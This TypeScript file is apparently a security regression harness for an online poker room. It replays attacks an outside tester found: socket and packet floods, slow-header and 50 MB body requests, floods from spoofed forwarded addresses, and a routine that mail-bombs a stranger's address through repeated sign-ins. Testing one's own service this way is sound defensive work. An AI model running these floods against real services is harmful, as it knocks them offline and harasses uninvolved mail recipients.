/**
 * The attacks that an outside tester ran against a room. Each names its fault. An attack runs in a process of its own
 * and acts as one visitor.
 */
import { RoomClient, socketOpener, TableReplica } from "@poker/client";
import { buildSettings, LEAST_GAME_PACING, presets } from "@poker/engine";
import { PROTOCOL_VERSION } from "@poker/protocol";
import type { AttackTarget } from "./attack-target.ts";
import {
  floodPipelined,
  floodWithAbandonedPages,
  floodWithBodies,
  floodWithConnections,
  floodWithKeptPages,
  floodWithPages,
  floodWithSearches,
  type PageFlood,
} from "./page-floods.ts";
import { openPlainSocket, openRawWebSocket, repeat } from "./raw-sockets.ts";

/** Begins an attack. Call the returned function to end it. */
type Attack = (target: AttackTarget) => () => void;

/** The network address of the attackers, in the header that a trusted proxy would send. */
const ATTACKER = { "x-forwarded-for": "203.0.113.9" };

/** Fault 91: one guest opens many sockets. Each socket alone stays below the limit for one socket. */
const GUEST_SOCKETS = 200;
const READ_REQUEST_INTERVAL_MS = 50;
const REOPEN_MS = 1_000;

export const floodFromOneGuest: Attack = ({ roomUrl, tableId, signTicket, count }) => {
  const open = socketOpener(roomUrl, ATTACKER);
  return repeat(GUEST_SOCKETS, REOPEN_MS, async (onEnd) => {
    const socket = open(roomUrl, { ticket: await signTicket(), protocol: PROTOCOL_VERSION });
    const timer = setInterval(() => {
      if (!socket.connected) return;
      socket.emit("buy-in-range", { tableId }, () => {});
      count("messages");
    }, READ_REQUEST_INTERVAL_MS);
    socket.on("connect", () => count("connections"));
    const close = () => {
      clearInterval(timer);
      socket.disconnect();
    };
    for (const event of ["disconnect", "connect_error"])
      socket.on(event, () => {
        close();
        onEnd();
      });
    return close;
  });
};

/** Fault 92: sockets that never send a ticket send the packet "CONNECT" again and again. */
const CONNECTING_SOCKETS = 3;
const CONNECT_PACKET = "40";
const PACKETS_PER_BURST = 100;
const BURST_INTERVAL_MS = 10;

export const floodWithConnectPackets: Attack = ({ roomUrl, count }) =>
  repeat(CONNECTING_SOCKETS, 100, async (onEnd) => {
    const socket = openRawWebSocket(roomUrl, { ...ATTACKER, origin: roomUrl }, onEnd);
    count("connections");
    const timer = setInterval(() => {
      if (socket.sendText(CONNECT_PACKET, PACKETS_PER_BURST)) count("messages", PACKETS_PER_BURST);
    }, BURST_INTERVAL_MS);
    return () => {
      clearInterval(timer);
      socket.close();
    };
  });

/** Fault 101: headers that never end, bodies of 50 MB, and many simultaneous requests for pages. */
const SLOW_SOCKETS = 300;
const LARGE_BODIES = 8;
const LARGE_BYTES = 50_000_000;
const PAGE_READERS = 40;
const CHUNK = Buffer.alloc(65_536, "x");

export const floodWithPlainHttp: Attack = ({ roomUrl, gameUrl, count }) => {
  const stops = [roomUrl, gameUrl].flatMap((url) => {
    const path = url === roomUrl ? "/api/account" : "/health";
    return [
      repeat(SLOW_SOCKETS, REOPEN_MS, async (onEnd) => {
        const socket = openPlainSocket(url, `GET / HTTP/1.1\r\n${headersFor(url)}`, onEnd);
        count("connections");
        const timer = setInterval(() => {
          socket.write("X-Slow: 1\r\n");
          count("messages");
        }, 1_000);
        return () => {
          clearInterval(timer);
          socket.destroy();
        };
      }),
      repeat(LARGE_BODIES, REOPEN_MS, async (onEnd) => {
        const head = `POST ${path} HTTP/1.1\r\n${headersFor(url)}Origin: ${roomUrl}\r\nContent-Type: application/json\r\n`;
        const socket = openPlainSocket(url, `${head}Content-Length: ${LARGE_BYTES}\r\n\r\n`, onEnd);
        count("connections");
        const sendMore = () => {
          do count("messages");
          while (!socket.destroyed && socket.write(CHUNK));
        };
        socket.on("connect", sendMore).on("drain", sendMore);
        return () => socket.destroy();
      }),
    ];
  });
  stops.push(
    repeat(PAGE_READERS, 100, async (onEnd) => {
      const socket = openPlainSocket(
        roomUrl,
        `GET / HTTP/1.1\r\n${headersFor(roomUrl)}Connection: close\r\n\r\n`,
        onEnd,
      );
      count("connections");
      count("messages");
      return () => socket.destroy();
    }),
  );
  return () => {
    for (const stop of stops) stop();
  };
};

const headersFor = (url: string): string =>
  `Host: ${new URL(url).host}\r\nX-Forwarded-For: ${ATTACKER["x-forwarded-for"]}\r\n`;

/**
 * Fault 118: the attacker creates an account with the e-mail address of a stranger. The attacker then signs in to this
 * account again and again, each time from a new device, so that the room sends mails to the stranger.
 */
const SIGN_IN_CLIENTS = 20;
const VICTIM = "victim@example.org";
const PASSWORD = "correct horse battery";
const BOMBER = "Bomber";

export const floodWithMails: Attack = ({ roomUrl, count }) => {
  const post = (
    path: string,
    body: URLSearchParams | string,
    headers: Readonly<Record<string, string>>,
    signal: AbortSignal,
  ) => {
    const type = typeof body === "string" ? "application/json" : "application/x-www-form-urlencoded";
    count("messages");
    return fetch(`${roomUrl}${path}`, {
      ...{ method: "POST", body, signal, redirect: "manual" },
      headers: { ...ATTACKER, ...headers, origin: roomUrl, "content-type": type },
    });
  };
  /** Signs in without the cookies of earlier sign-ins, so that the room sees a new device. Then makes the room send two more mails. */
  const bomb = async (signal: AbortSignal) => {
    const csrf = await fetch(`${roomUrl}/api/auth/csrf`, { headers: ATTACKER, signal });
    const { csrfToken }: { csrfToken: string } = await csrf.json();
    const form = new URLSearchParams({ login: BOMBER, password: PASSWORD, csrfToken, json: "true" });
    const signedIn = await post("/api/auth/callback/password", form, { cookie: cookiesOf(csrf) }, signal);
    const own = { cookie: cookiesOf(signedIn) };
    await signedIn.text();
    await (await post("/api/account/address", JSON.stringify({ email: VICTIM }), own, signal)).text();
    await (await post("/api/account/reset/link", JSON.stringify({ login: VICTIM }), {}, signal)).text();
  };
  const account = JSON.stringify({ name: BOMBER, email: VICTIM, password: PASSWORD });
  const over = new AbortController();
  const made = post("/api/account", account, {}, over.signal).then((answer) => answer.text());
  const stop = repeat(SIGN_IN_CLIENTS, 0, async (onEnd) => {
    await made;
    count("connections");
    const ended = new AbortController();
    bomb(ended.signal).then(onEnd, onEnd);
    return () => ended.abort();
  });
  return () => {
    over.abort();
    stop();
  };
};

const cookiesOf = (answer: Response): string =>
  answer.headers
    .getSetCookie()
    .map((cookie) => cookie.split(";", 1)[0])
    .join("; ");

/**
 * Fault 122: guests open private games and fold every hand at once. They ask for games without pauses, and then for
 * games with the shortest allowed pauses.
 */
const PUMPS = 6;
const PUMP_REOPEN_MS = 500;
const NO_PACING = { streetMs: 0, potMs: 0, uncontestedPotMs: 0, furtherPotMs: 0, betweenHandsMs: 0 };

export const pumpPrivateGames: Attack = ({ roomUrl, count }) =>
  repeat(PUMPS, PUMP_REOPEN_MS, async (onEnd) => {
    const over = new AbortController();
    const players: (() => void)[] = [];
    const pump = async () => {
      const [host, friend] = [await enterAsGuest(roomUrl, over.signal), await enterAsGuest(roomUrl, over.signal)];
      count("connections", 2);
      const tableId = await openFastGame(host, count);
      if (tableId === null) return onEnd();
      const { token }: { token: string } = await (await host(`/api/games/${tableId}/invitation`)).json();
      await friend("/api/games/enter", { key: token, password: null, watch: false });
      for (const guest of [host, friend]) players.push(foldEveryHand(guest, roomUrl, tableId, count));
    };
    pump().catch(onEnd);
    return () => {
      over.abort();
      for (const stop of players) stop();
    };
  });

/**
 * Requests a page or a route of the room with the cookies of one guest. Sends a POST request if `body` is given,
 * otherwise a GET request.
 */
type Guest = (path: string, body?: object) => Promise<Response>;

async function enterAsGuest(roomUrl: string, signal: AbortSignal): Promise<Guest> {
  const headers = { ...ATTACKER, origin: roomUrl };
  const csrf = await fetch(`${roomUrl}/api/auth/csrf`, { headers, signal });
  const { csrfToken }: { csrfToken: string } = await csrf.json();
  const signedIn = await fetch(`${roomUrl}/api/auth/callback/guest`, {
    ...{ method: "POST", redirect: "manual", signal, body: new URLSearchParams({ csrfToken, json: "true" }) },
    headers: { ...headers, cookie: cookiesOf(csrf) },
  });
  const cookie = cookiesOf(signedIn);
  return (path, body) =>
    fetch(`${roomUrl}${path}`, {
      signal,
      ...(body && { method: "POST", body: JSON.stringify(body) }),
      headers: { ...headers, cookie, "content-type": "application/json" },
    });
}

/**
 * Opens a private game without pauses. If the room refuses it, opens one with the shortest allowed pauses. Returns the
 * id of the game's table;
 * null when the room refuses both.
 */
async function openFastGame(host: Guest, count: AttackTarget["count"]): Promise<string | null> {
  const stakes = { game: "holdem", structure: "no-limit", low: 1_00, high: 2_00, currency: "game" } as const;
  for (const pacing of [NO_PACING, LEAST_GAME_PACING]) {
    const tableId = crypto.randomUUID();
    const settings = { ...buildSettings(presets.cardroom, stakes), pacing, bots: true };
    const access = { admission: "link", watching: "link", term: "day", password: null };
    count("messages");
    if ((await host("/api/games", { tableId, title: "Fast", settings, ...access })).ok) return tableId;
  }
  return null;
}

function foldEveryHand(guest: Guest, roomUrl: string, tableId: string, count: AttackTarget["count"]): () => void {
  let seat: number | null = null;
  const client = new RoomClient({
    openSocket: socketOpener(roomUrl, ATTACKER),
    fetchTicket: async () => (await guest("/api/ticket", { tableId })).json(),
  });
  const ids = () => ({ tableId, commandId: crypto.randomUUID() });
  const sit = async () => {
    const { settings } = replica.view ?? {};
    const request = { ...ids(), seat: null, buyIn: settings?.buyIn.min ?? 0, entry: "post" } as const;
    const reply = settings && (await client.requestOnce("sit", request));
    if (reply?.ok) seat = reply.seat;
  };
  const replica = new TableReplica(client, tableId, {
    onChange: () => {
      const { hand } = replica.view ?? {};
      const toAct = hand?.result === null ? hand.toAct : null;
      if (!hand || !toAct || toAct.seat !== seat) return;
      count("messages");
      const { handNo } = hand;
      const action = { type: "fold" } as const;
      void client.requestOnce("act", {
        tableId,
        actionId: crypto.randomUUID(),
        handNo,
        decision: toAct.decision,
        action,
      });
    },
    onRefused: () => {},
    onError: () => {},
  });
  replica.start();
  client.connect();
  const timer = setInterval(() => seat === null && void sit(), 1_000);
  return () => {
    clearInterval(timer);
    client.close();
  };
}

/** Returns an attack that runs the same flood from each of `addresses` addresses. Fault 119 */
const fromAddresses =
  (addresses: number, flood: PageFlood): Attack =>
  (target) => {
    const stops = Array.from({ length: addresses }, (_, index) => flood(target, `203.0.113.${index + 1}`));
    return () => {
      for (const stop of stops) stop();
    };
  };
const MANY_ADDRESSES = 20;

export const ATTACKS = {
  "fault 91: 200 sockets of one guest ask for their buy-in range": floodFromOneGuest,
  "fault 92: three sockets without a ticket send CONNECT packets": floodWithConnectPackets,
  "fault 101: slow and large plain HTTP at both servers": floodWithPlainHttp,
  "fault 118: an account that names a stranger's address signs in and asks for mails without end": floodWithMails,
  "fault 122: guests open private games without pauses and fold every hand at once": pumpPrivateGames,
  "fault 119: 200 pipelined requests on each connection, from one address": fromAddresses(1, floodPipelined),
  "fault 119: 200 pipelined requests on each connection, from twenty addresses": fromAddresses(
    MANY_ADDRESSES,
    floodPipelined,
  ),
  "fault 119: ten pages a second, from one address": fromAddresses(1, floodWithPages),
  "fault 119: ten pages a second, from twenty addresses": fromAddresses(MANY_ADDRESSES, floodWithPages),
  "fault 119: pages that are abandoned, from one address": fromAddresses(1, floodWithAbandonedPages),
  "fault 119: pages that are abandoned, from twenty addresses": fromAddresses(MANY_ADDRESSES, floodWithAbandonedPages),
  "fault 119: the landing page and help, from one address": fromAddresses(1, floodWithKeptPages),
  "fault 119: the landing page and help, from twenty addresses": fromAddresses(MANY_ADDRESSES, floodWithKeptPages),
  "fault 119: searches and lists, from one address": fromAddresses(1, floodWithSearches),
  "fault 119: searches and lists, from twenty addresses": fromAddresses(MANY_ADDRESSES, floodWithSearches),
  "fault 119: 100 connections that stay open, from one address": fromAddresses(1, floodWithConnections),
  "fault 119: 100 connections that stay open, from twenty addresses": fromAddresses(
    MANY_ADDRESSES,
    floodWithConnections,
  ),
  "fault 119: bodies of 60 kB, from one address": fromAddresses(1, floodWithBodies),
  "fault 119: bodies of 60 kB, from twenty addresses": fromAddresses(MANY_ADDRESSES, floodWithBodies),
} as const satisfies Readonly<Record<string, Attack>>;
export type AttackName = keyof typeof ATTACKS;
export const ATTACK_NAMES = Object.keys(ATTACKS) as readonly AttackName[];
